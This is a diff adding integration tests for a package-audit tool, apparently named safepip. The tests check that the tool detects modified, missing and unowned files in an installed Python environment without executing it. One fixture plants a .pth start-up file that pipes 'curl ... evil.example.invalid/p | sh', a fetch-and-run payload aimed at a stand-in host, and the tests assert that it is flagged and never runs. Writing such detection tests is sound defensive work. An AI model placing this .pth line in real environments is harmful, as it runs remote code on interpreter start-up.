@@ -1,0 +1,131 @@
+"""Issue 13: `safepip audit` with no inputs checks the installed environment from its recorded
+files (RECORD hashes, the hook scan of what is on disk, unowned start-up files), never running
+that environment's code."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.integration.conftest import VenvFactory
+from tests.kit.archives import make_wheel
+from tests.kit.index_server import IndexServer
+
+Factory = Callable[..., IndexServer]
+
+pytestmark = pytest.mark.integration
+
+
+def _audit(venv: Path, env: dict[str, str], cwd: Path, *extra: str
+           ) -> tuple[int, dict[str, Any], str]:
+    result = subprocess.run(
+        [sys.executable, "-m", "safepip", "audit", "--python", str(venv), "--format", "json",
+         *extra], env=env, cwd=cwd, capture_output=True, text=True, timeout=300)
+    return result.returncode, json.loads(result.stdout or "{}"), result.stderr
+
+
+@pytest.fixture
+def installed(tmp_path: Path, index_server: Factory, make_venv: VenvFactory,
+              pip_env: dict[str, str]) -> Path:
+    """A venv into which real pip installed two generated wheels from the loopback index."""
+    dist = tmp_path / "dist"
+    server = index_server([
+        make_wheel(dist, "orchard", "1.0", requires_dist=["pear-lib"], files={
+            "orchard/__init__.py": "from orchard.core import ripe\n",
+            "orchard/core.py": "def ripe():\n    return True\n",
+            "orchard/cli.py": "def main():\n    print('ok')\n",
+            "orchard/notes.txt": "plain data\n",
+        }, entry_points="[console_scripts]\norchard-cli = orchard.cli:main\n"),
+        make_wheel(dist, "pear-lib", "0.3"),
+    ])
+    venv = make_venv(tmp_path / "venv")
+    subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "install", "-q",
+                    "--index-url", server.index_url, "orchard"],
+                   env=pip_env, check=True, capture_output=True, timeout=300)
+    return venv
+
+
+def _site(venv: Path) -> Path:
+    (site,) = venv.glob("lib/python*/site-packages")
+    return site
+
+
+def test_a_clean_environment_audits_clean_from_its_recorded_files(
+    installed: Path, pip_env: dict[str, str], tmp_path: Path,
+) -> None:
+    code, report, err = _audit(installed, pip_env, tmp_path)
+    assert code == 0, err
+    assert report["verdict"] == "allow"
+    by_name = {p["name"]: p for p in report["packages"]}
+    assert {"orchard", "pear-lib", "pip"} <= set(by_name)
+    assert by_name["orchard"]["metadata_source"] == "installed"
+    assert by_name["orchard"]["artifact"]["filename"] == "orchard-1.0.dist-info/RECORD"
+    assert "installed distributions checked from their recorded files (RECORD)" in err
+    assert not [f for f in report["findings"] if f["severity"] in ("medium", "high", "critical")]
+    # The test venvs borrow pip through a .pth file no RECORD owns: reported, low.
+    unowned = [f for f in report["findings"] if f["rule"] == "installed/unowned-start-file"]
+    assert [Path(f["location"]["path"]).name for f in unowned] == ["_lent_pip.pth"]
+
+
+def test_tampered_files_and_an_unowned_hostile_pth_are_found_and_never_run(
+    installed: Path, pip_env: dict[str, str], tmp_path: Path,
+) -> None:
+    site = _site(installed)
+    canary = tmp_path / "CANARY"
+    (site / "orchard" / "core.py").write_text("def ripe():\n    return False\n")
+    (site / "orchard" / "notes.txt").unlink()
+    (installed / "bin" / "orchard-cli").write_text("#!/bin/sh\necho changed\n")
+    (site / "zz_speedups.pth").write_text(
+        f"import os; os.system('touch {canary}; curl -s https://evil.example.invalid/p | sh')\n")
+    code, report, err = _audit(installed, pip_env, tmp_path)
+    assert not canary.exists(), "the audited environment's start-up code ran"
+    assert code == 1, err
+    assert report["verdict"] == "block"
+    found = {(f["rule"], f["package"], f["location"]["path"] if f["location"] else None):
+             f["severity"] for f in report["findings"]}
+    assert found[("installed/modified-file", "orchard", "orchard/core.py")] == "high"
+    assert found[("installed/modified-file", "orchard", "../../../bin/orchard-cli")] == "high"
+    assert found[("installed/missing-file", "orchard", "orchard/notes.txt")] == "medium"
+    pth = [f for f in report["findings"] if f["package"] == "zz-speedups"]
+    assert {f["rule"] for f in pth} == {"installed/unowned-start-file", "hook/pth-exec"}
+    assert max(f["severity"] for f in pth if f["rule"] == "hook/pth-exec") == "critical"
+    assert not any(f["package"] == "pear-lib" for f in report["findings"])
+
+
+def test_the_environment_probe_never_runs_its_pth_files(
+    make_venv: VenvFactory, tmp_path: Path,
+) -> None:
+    from safepip.resolution.environment import StartedProbe
+
+    venv = make_venv(tmp_path / "venv")
+    canary = tmp_path / "CANARY"
+    extra = tmp_path / "extra-path"
+    extra.mkdir()
+    site = _site(venv)
+    (site / "a_hook.pth").write_text(f"{extra}\nimport os; open({str(canary)!r}, 'w')\n")
+    with StartedProbe(str(venv / "bin" / "python")) as probe:
+        facts = probe.facts()
+    assert not canary.exists()
+    assert str(extra) in facts["paths"] and str(site) in facts["paths"]
+    assert facts["site"] == [str(site)]
+
+
+def test_a_distribution_without_record_is_named_and_vetted_from_the_index(
+    installed: Path, pip_env: dict[str, str], tmp_path: Path, index_server: Factory,
+) -> None:
+    (_site(installed) / "pear_lib-0.3.dist-info" / "RECORD").unlink()
+    server = index_server([make_wheel(tmp_path / "other", "pear-lib", "0.3")])
+    code, report, err = _audit(installed, pip_env, tmp_path, "--index-url", server.index_url)
+    assert code == 0, err
+    assert "1 without a RECORD could not be: pear-lib 0.3" in err
+    by_name = {p["name"]: p for p in report["packages"]}
+    assert by_name["pear-lib"]["artifact"]["filename"] == "pear_lib-0.3-py3-none-any.whl"
+    assert by_name["orchard"]["metadata_source"] == "installed"
+    assert ("installed/no-record", "pear-lib") in {(f["rule"], f["package"])
+                                                   for f in report["findings"]}
